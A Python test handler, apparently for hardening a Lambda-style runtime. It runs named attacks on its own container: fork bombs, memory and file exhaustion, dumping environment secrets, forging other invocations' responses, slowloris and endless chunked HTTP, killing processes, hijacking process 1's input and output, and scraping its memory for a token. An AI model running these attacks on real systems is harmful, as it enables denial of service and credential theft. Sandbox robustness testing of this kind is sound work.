"""Does what data.attack says. Everything here is bounded, and harms nobody but its own server."""

import contextlib
import ctypes
import http.client
import os
import re
import signal
import socket
import sys
import threading
import time

API = "/2018-06-01/runtime/invocation"
MEGABYTE = 1 << 20


def handler(task, context):
    data = task["data"]
    if "attack" not in data:
        return "at your service"
    return globals()["attack_" + data["attack"]](data, context)


# Processes


def attack_fork_bomb(data, context):
    while True:
        with contextlib.suppress(OSError):
            os.fork()


def attack_spin(data, context):
    def spin():
        while True:
            pass

    for _ in range(7):
        threading.Thread(target=spin, daemon=True).start()
    spin()


def attack_leak(data, context):
    leaked = []
    while True:
        leaked.append(os.urandom(MEGABYTE))


def attack_open_files(data, context):
    opened = []
    try:
        while len(opened) < 5000:
            opened.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as error:
        failed = error.strerror
    for descriptor in opened:
        os.close(descriptor)
    return {"opened": len(opened), "failed": failed}


def attack_haunt(data, context):
    """A child of a child of a session of its own, deaf to every signal, that prints for ever."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in set(range(1, signal.NSIG)) - {signal.SIGKILL, signal.SIGSTOP}:
                with contextlib.suppress(OSError, ValueError):
                    signal.signal(number, signal.SIG_IGN)
            line = b"boo " + data["name"].encode() + b"\n"
            while True:
                os.write(1, line * data["lines"])
                time.sleep(data["pause"])
        os._exit(0)
    os.wait()
    return "haunted"


# Output


def attack_flood(data, context):
    piece = (data["piece"] * MEGABYTE).encode()[: 64 << 10]
    for _ in range((data["megabytes"] << 20) // len(piece)):
        write_all(1, piece)
    write_all(1, b"\n")
    return "printed"


def attack_rubbish(data, context):
    write_all(1, bytes.fromhex(data["bytes"]))


def attack_long_line(data, context):
    write_all(1, b"".join(b"%07d|" % n for n in range(data["size"] // 8)) + b"\n")


# Files


def attack_fill_tmp(data, context):
    piece = os.urandom(MEGABYTE)
    written = 0
    try:
        with open("/tmp/filler", "wb", buffering=0) as file:
            while written < data["megabytes"]:
                file.write(piece)
                written += 1
    except OSError as error:
        return {"written": written, "failed": error.strerror}
    finally:
        os.remove("/tmp/filler")
    return {"written": written}


def attack_write(data, context):
    def write(path):
        try:
            with open(path, "w") as file:
                file.write("1")
        except OSError as error:
            return error.strerror
        return "written"

    def delete(path):
        try:
            os.remove(path)
        except OSError as error:
            return error.strerror
        return "deleted"

    return {path: write(path) for path in data["paths"]} | {
        f"delete {path}": delete(path) for path in data["delete"]
    }


# The Runtime API


def attack_look_around(data, context):
    """All that the container knows of hosts."""
    with (
        open("/etc/hosts") as hosts,
        open("/etc/resolv.conf") as resolv,
        open("/proc/net/arp") as arp,
    ):
        return {
            "env": dict(os.environ),
            "files": hosts.read() + resolv.read() + arp.read(),
            "names": {name: lookup(name) for name in data["names"]},
        }


def attack_ask_as(data, context):
    return [
        ask("GET", f"{API}/next", Host=host).status
        if not host.isdigit()
        else ask("POST", f"{API}/{host}/response", b"{}").status
        for host in data["hosts"]
    ]


def attack_connect(data, context):
    """Which of these ports of the gateway take a connection."""
    address = socket.gethostbyname(runtime_api()[0])
    taken = []
    for port in data["ports"]:
        try:
            socket.create_connection((address, port), timeout=5).close()
            taken.append(port)
        except OSError:
            pass
    return taken


def attack_hang_up(data, context):
    for _ in range(20):
        with dial() as line:  # in the middle of `next`
            line.sendall(request("GET", f"{API}/next"))
        with dial() as line:  # of a response
            line.sendall(request("POST", mine(context), b"x" * 100, **{"Content-Length": "200"}))
        with dial() as line:  # of the headers
            line.sendall(f"POST {mine(context)} HTTP/1.1\r\nHo".encode())
    return "still here"


def attack_answer_twice(data, context):
    return_codes = [ask("POST", mine(context), b'"first"').status for _ in range(2)]
    print("answers", return_codes)
    return "third"


def attack_answer_for(data, context):
    return [ask("POST", f"{API}/{id}/response", b'"forged"').status for id in data["ids"]]


def attack_poll_twice(data, context):
    """Both get the event that is being handled, as on AWS."""
    ids = []

    def poll():
        ids.append(ask("GET", f"{API}/next").headers["Lambda-Runtime-Aws-Request-Id"])

    threads = [threading.Thread(target=poll) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return ids == [context.aws_request_id] * 2


def attack_send(data, context):
    """Raw bytes, `repeat` times, until the other side has had enough; what it answers."""
    piece = data["bytes"].replace("{mine}", mine(context)).encode() * data.get("times", 1)
    with dial() as line:
        try:
            for _ in range(data.get("repeat", 1)):
                line.sendall(piece)
            line.settimeout(data.get("patience", 10))
            return line.recv(64 << 10).partition(b"\r\n")[0].decode(errors="replace")
        except TimeoutError:
            return "silence"
        except OSError as error:
            return error.strerror


def attack_endless_response(data, context):
    with dial() as line:
        head = (
            f"POST {mine(context)} HTTP/1.1\r\nHost: {host()}\r\nTransfer-Encoding: chunked\r\n\r\n"
        )
        line.sendall(head.encode())
        while True:
            line.sendall(b"%x\r\n" % MEGABYTE + b"1" * MEGABYTE + b"\r\n")


def attack_chunks(data, context):
    """A response of `size` bytes in chunks, whose status is printed."""
    body = b'"' + b"x" * (data["size"] - 2) + b'"'
    with dial() as line:
        head = (
            f"POST {mine(context)} HTTP/1.1\r\nHost: {host()}\r\nTransfer-Encoding: chunked\r\n\r\n"
        )
        line.sendall(head.encode())
        for begin in range(0, len(body), 100_000):
            piece = body[begin : begin + 100_000]
            line.sendall(b"%x\r\n%s\r\n" % (len(piece), piece))
        line.sendall(b"0\r\n\r\n")
        print("status", line.recv(100).split()[1].decode())


def attack_deep(data, context):
    deep = b"[" * 100_000 + b"]" * 100_000
    print("status", ask("POST", mine(context).replace("response", data["as"]), deep).status)


def attack_connections(data, context):
    """Opens `count` connections to a port of the gateway; holds those that stay open."""
    address = socket.gethostbyname(runtime_api()[0])
    port = data.get("port") or runtime_api()[1]
    lines = [socket.create_connection((address, port), timeout=5) for _ in range(data["count"])]
    for line in lines:
        with contextlib.suppress(OSError):
            line.sendall(b"GET / HTTP/1.1\r\n")  # and never the rest
    print("holding")
    time.sleep(data["seconds"])
    held = 0
    for line in lines:
        try:
            line.setblocking(False)
            line.recv(1)
        except BlockingIOError:
            held += 1
        except OSError:
            pass
        line.close()
    return held


def attack_api(data, context):
    """The statuses of calls to the public server, with these headers and no credentials."""
    port = int(os.environ["API_HOST"].rpartition(":")[2])
    statuses = []
    for method, path in data["calls"]:
        line = http.client.HTTPConnection("localhost.taskdock", port, timeout=10)
        line.request(method, path, b"{}", {"Content-Type": "application/json", **data["headers"]})
        statuses.append(line.getresponse().status)
        line.close()
    return statuses


# The console: process 1, of the same user


def attack_signal_console(data, context):
    for number in range(1, signal.NSIG):
        with contextlib.suppress(OSError):
            os.kill(1, number)
    return "still here"


def attack_kill_all(data, context):
    with contextlib.suppress(ProcessLookupError):  # there may be nobody
        os.kill(-1, signal.SIGKILL)  # all but process 1 and this one, so also who waits for our end
    if data.get("then") == "exit":
        os._exit(3)
    return "alone"


def attack_steal_words(data, context):
    """Reads the console's input in its place, before and beyond the answer."""
    if os.fork() == 0:
        words = os.open("/proc/1/fd/0", os.O_RDONLY)
        while True:
            os.read(words, 1)
    if data.get("hang"):
        time.sleep(600)
    return "stolen"


def attack_order(data, context):
    """Speaks into the console's input."""
    with open("/proc/1/fd/0", "wb", buffering=0) as words:
        words.write(data["words"].encode())
    time.sleep(data["seconds"])
    return "ordered"


def attack_steal_output(data, context):
    """Reads its own output, and the console's words with it."""
    if os.fork() == 0:
        output = os.open("/proc/1/fd/1", os.O_RDONLY)
        while True:
            os.read(output, MEGABYTE)
    if data.get("hang"):
        time.sleep(600)
    return "stolen"


def attack_forge(data, context):
    """Says the console's words with the mark that it has taken from its memory."""
    mark = find_mark()
    print("mark", "found" if mark else "not found")
    sys.stdout.flush()
    for word in data["words"]:
        write_all(1, mark + b" " + word.encode() + b"\n")
    time.sleep(data["seconds"])
    return "forged"


def attack_crush_console(data, context):
    """Stops process 1, as a debugger does, for as long as this process lives."""
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, 1, 0, 0) != 0:  # PTRACE_ATTACH
        return os.strerror(ctypes.get_errno())
    print("attached")
    time.sleep(600)
    return "let go"


def find_mark():
    """32 hexadecimal digits on a line of their own words: the shell's variable."""
    with open("/proc/1/maps") as maps, open("/proc/1/mem", "rb", buffering=0) as memory:
        for area in maps:
            if not re.search(r"rw-p.*\[(heap|stack)\]", area):
                continue
            begin, end = (int(edge, 16) for edge in area.split()[0].split("-"))
            memory.seek(begin)
            found = re.search(rb"(?<![0-9a-z])[0-9a-z]{32}(?![0-9a-z])", memory.read(end - begin))
            if found:
                return found[0]
    return b""


def write_all(descriptor, data):
    view = memoryview(data)
    while view:
        view = view[os.write(descriptor, view) :]


def runtime_api():
    host, port = os.environ["AWS_LAMBDA_RUNTIME_API"].split(":")
    return host, int(port)


def host():
    return os.environ["AWS_LAMBDA_RUNTIME_API"]


def mine(context):
    return f"{API}/{context.aws_request_id}/response"


def dial():
    return socket.create_connection(runtime_api(), timeout=60)


def request(method, path, body=b"", **headers):
    headers = {"Host": host(), "Content-Length": str(len(body)), **headers}
    lines = [f"{method} {path} HTTP/1.1", *(f"{name}: {headers[name]}" for name in headers), "", ""]
    return "\r\n".join(lines).encode() + body


def ask(method, path, body=b"", **headers):
    line = http.client.HTTPConnection(*runtime_api(), timeout=10)
    line.request(method, path, body, headers)
    answer = line.getresponse()
    answer.read()
    line.close()
    return answer


def lookup(name):
    try:
        return socket.gethostbyname(name)
    except OSError:
        return None
